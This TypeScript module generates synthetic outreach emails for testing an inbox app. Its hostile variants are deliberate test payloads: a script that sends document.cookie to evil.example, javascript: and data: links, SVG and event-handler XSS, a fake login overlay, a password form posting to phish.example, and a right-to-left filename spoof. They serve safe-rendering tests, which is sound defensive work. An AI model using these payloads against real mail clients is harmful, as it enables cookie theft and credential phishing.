// Message bodies, built on demand from a stored (kind, seed) pair plus the thread's people, so a
// 500,000-message inbox costs a few integers per message instead of its text. A share of them is
// hostile or awkward on purpose: the app must show them safely.
import { mulberry32, pick, type Rng } from './prng';
import { PAIN_POINTS } from './words';

/** What the sender meant; for inbound messages it mirrors the thread's first triage outcome. */
export const INTENTS = [
  'pitch',
  'followup',
  'question',
  'interested',
  'meeting',
  'not_interested',
  'out_of_office',
  'wrong_person',
] as const;
export type Intent = (typeof INTENTS)[number];

/** Awkward content kinds; 0 is an ordinary message. */
export const HOSTILE = [
  'none',
  'script',
  'event_handlers',
  'javascript_link',
  'data_link',
  'svg',
  'css_tricks',
  'form',
  'iframe',
  'remote_images',
  'huge',
  'malformed',
  'rtl',
  'emoji',
] as const;
export type Hostile = (typeof HOSTILE)[number];

export function encodeKind(intent: Intent, hostile: Hostile): number {
  return HOSTILE.indexOf(hostile) * 16 + INTENTS.indexOf(intent);
}
export function decodeKind(kind: number): { intent: Intent; hostile: Hostile } {
  return { intent: INTENTS[kind % 16] ?? 'question', hostile: HOSTILE[Math.floor(kind / 16)] ?? 'none' };
}

export interface BodyContext {
  kind: number;
  seed: number;
  prospectFirst: string;
  prospectLast: string;
  company: string;
  senderName: string;
}

const esc = (s: string): string =>
  s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');

function pitchLines(rng: Rng, c: BodyContext): string[] {
  const pain = pick(rng, PAIN_POINTS);
  return [
    `Hi ${c.prospectFirst},`,
    `I noticed ${c.company} has been growing fast, and teams at that stage often struggle with ${pain}.`,
    `We help revenue teams fix ${pain} in weeks, not quarters. Would a 15-minute call next week be useful?`,
    `Best,\n${c.senderName}`,
  ];
}

function replyLines(rng: Rng, intent: Intent, c: BodyContext): string[] {
  const to = c.senderName.split(' ')[0] ?? c.senderName;
  const sign = `${c.prospectFirst} ${c.prospectLast}\n${c.company}`;
  switch (intent) {
    case 'pitch':
      return pitchLines(rng, c);
    case 'followup':
      return [
        `Hi ${c.prospectFirst},`,
        pick(rng, [
          'Just bumping this to the top of your inbox.',
          'Following up on my note below: is this on your radar this quarter?',
          'Thanks for the reply! Here is the one-pager I mentioned.',
        ]),
        `Best,\n${c.senderName}`,
      ];
    case 'interested':
      return [
        `Hi ${to},`,
        pick(rng, [
          'This sounds interesting. Can you send over pricing and a short case study?',
          'Timing is actually good, we are evaluating options this month. Tell me more.',
          'Yes, happy to learn more. What does onboarding look like?',
        ]),
        sign,
      ];
    case 'meeting':
      return [
        `Hi ${to},`,
        pick(rng, [
          'Sure, Thursday at 2pm works. I sent you an invite.',
          'Booked a slot on your calendar for Tuesday. Looking forward to it.',
          'Monday 10:30 CET it is, I accepted your invite.',
        ]),
        sign,
      ];
    case 'not_interested':
      return [
        pick(rng, [
          'Not interested, please remove me from your list.',
          'We already have a solution for this, thanks.',
          'No thanks. Please stop emailing me.',
        ]),
        c.prospectFirst,
      ];
    case 'out_of_office':
      return [
        pick(rng, [
          'I am out of the office until next Monday with limited access to email.',
          'Thank you for your message. I am on parental leave and will reply when I am back.',
          'Automatic reply: I am travelling this week and will respond on my return.',
        ]),
        `For urgent matters please contact office@${c.company.toLowerCase().replace(/[^a-z0-9]+/g, '')}.com.`,
      ];
    case 'wrong_person': {
      const line = pick(rng, [
        'I am not the right person for this. You may want to talk to our Head of Operations.',
        'I left that role a while ago; try reaching out to the procurement team instead.',
        '',
      ]);
      // A departed contact's mailbox answering by itself, pointing to a shared address.
      if (line === '')
        return [
          `This is an automatic reply. ${c.prospectFirst} ${c.prospectLast} no longer works at ${c.company}.`,
          `Please send your message to info@${c.company.toLowerCase().replace(/[^a-z0-9]+/g, '')}.example.`,
        ];
      return [`Hi ${to},`, line, c.prospectFirst];
    }
    case 'question':
    default:
      return [
        `Hi ${to},`,
        pick(rng, [
          'How does this compare to what we already use?',
          'Can you share how you handle data privacy and GDPR?',
          'What would this cost for a team of 12?',
          'Do you integrate with our CRM?',
        ]),
        sign,
      ];
  }
}

function toHtml(lines: string[]): string {
  return lines.map((l) => `<p>${esc(l).replace(/\n/g, '<br>')}</p>`).join('\n');
}

/** A hostile or awkward addition: [html, text]. */
function hostilePart(h: Hostile, rng: Rng, c: BodyContext): [string, string] {
  switch (h) {
    case 'script':
      return [
        `<script>fetch('https://evil.example/steal?c='+document.cookie)</script><p>See attached.</p>`,
        'See attached.',
      ];
    case 'event_handlers':
      return [
        `<img src="x" onerror="alert('pwned')"><div onmouseover="location='https://evil.example'">Hover for details</div><body onload="alert(1)">`,
        'Hover for details',
      ];
    case 'javascript_link':
      return [
        `<p><a href="javascript:alert(document.domain)">Open the proposal</a> or <a href="JaVaScRiPt:void(0)" target="_blank">this one</a></p>`,
        'Open the proposal or this one',
      ];
    case 'data_link':
      return [
        `<p><a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">View invoice</a></p>`,
        'View invoice',
      ];
    case 'svg':
      return [
        `<svg width="10" height="10" onload="alert('svg')"><script>alert('svg script')</script><a xlink:href="javascript:alert(2)"><text y="10">chart</text></a></svg>`,
        'chart',
      ];
    case 'css_tricks':
      return [
        `<style>body{display:none} *{background:url(https://track.example/css.png)}</style><div style="position:fixed;top:0;left:0;width:100%;height:100%;background:#fff;z-index:99999">Your session expired, please log in again.</div><p style="font-size:0">hidden text</p>`,
        'Your session expired, please log in again.',
      ];
    case 'form':
      return [
        `<form action="https://phish.example/login" method="post"><p>Confirm your password:</p><input type="password" name="pw"><button type="submit">Confirm</button></form>`,
        'Confirm your password:',
      ];
    case 'iframe':
      return [
        `<iframe src="https://evil.example/frame" width="600" height="400"></iframe><object data="https://evil.example/x.swf"></object><embed src="https://evil.example/e">`,
        '',
      ];
    case 'remote_images':
      return [
        `<p><img src="https://cdn.example-mail.com/banner-${Math.floor(rng() * 1000)}.png" alt="banner" width="600"></p><img src="https://track.example/open.gif?id=${Math.floor(rng() * 1e9)}" width="1" height="1" style="display:none">`,
        '',
      ];
    case 'huge': {
      // About 1 MB: a forwarded report that someone pasted whole.
      const row = `<tr><td>${esc(c.company)}</td><td>Q${1 + Math.floor(rng() * 4)}</td><td>${Math.floor(rng() * 99999)}</td><td>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</td></tr>\n`;
      const rowText = `${c.company}\tQ\t${Math.floor(rng() * 99999)}\tLorem ipsum dolor sit amet, consectetur adipiscing elit.\n`;
      const n = Math.ceil(1_000_000 / row.length);
      return [`<table>${row.repeat(n)}</table>`, rowText.repeat(n)];
    }
    case 'malformed':
      return [
        `<div><p>Unclosed <b>bold <i>and italic</div></p><table><tr><td>cell</table><<p>>stray brackets</p><!-- unterminated comment`,
        'Unclosed bold and italic cell stray brackets',
      ];
    case 'rtl':
      return [
        `<p dir="rtl">שלום, אשמח לשמוע עוד פרטים. مرحبا، هل يمكننا تحديد موعد؟</p><p>\u202Egnp.exe\u202C attachment</p>`,
        'שלום, אשמח לשמוע עוד פרטים. مرحبا، هل يمكننا تحديد موعد؟\n\u202Egnp.exe\u202C attachment',
      ];
    case 'emoji':
      return [`<p>Sounds great 🚀🔥👍🏽 let's do it 👨‍👩‍👧‍👦 🇯🇵 ✅</p>`, "Sounds great 🚀🔥👍🏽 let's do it 👨‍👩‍👧‍👦 🇯🇵 ✅"];
    case 'none':
    default:
      return ['', ''];
  }
}

/** Builds a message body; same context, same bytes. */
export function renderBody(c: BodyContext): { bodyHtml: string; bodyText: string } {
  const rng = mulberry32(c.seed);
  const { intent, hostile } = decodeKind(c.kind);
  const lines = replyLines(rng, intent, c);
  const [extraHtml, extraText] = hostilePart(hostile, rng, c);
  let html = `<div dir="auto">${toHtml(lines)}${extraHtml}</div>`;
  let text = lines.join('\n\n') + (extraText ? `\n\n${extraText}` : '');
  if (intent === 'pitch' || intent === 'followup') {
    html += `\n<div class="signature">-- <br>${esc(c.senderName)}<br>Outreach HQ · <a href="https://outreachhq.example">outreachhq.example</a></div>`;
    text += `\n\n-- \n${c.senderName}\nOutreach HQ · outreachhq.example`;
  }
  if (intent !== 'pitch') {
    // Replies quote what came before, as mail clients do.
    const quoted = pitchLines(mulberry32(c.seed ^ 0x5bd1e995), c);
    const who = c.senderName;
    html += `\n<div class="gmail_quote"><div>${esc(who)} wrote:</div><blockquote>${toHtml(quoted)}</blockquote></div>`;
    text += `\n\n${who} wrote:\n` + quoted.map((l) => `> ${l.replace(/\n/g, '\n> ')}`).join('\n>\n');
  }
  return { bodyHtml: html, bodyText: text };
}

/** Plain text of HTML someone sent through the API (a reply): tags out, entities decoded. */
export function htmlToText(html: string): string {
  return html
    .replace(/<(script|style)[^>]*>[\s\S]*?<\/\1>/gi, '')
    .replace(/<br\s*\/?>/gi, '\n')
    .replace(/<\/(p|div|li|tr|h[1-6])>/gi, '\n')
    .replace(/<[^>]*>/g, '')
    .replace(/&nbsp;/g, ' ')
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&quot;/g, '"')
    .replace(/&#39;/g, "'")
    .replace(/&amp;/g, '&')
    .replace(/\n{3,}/g, '\n\n')
    .trim();
}
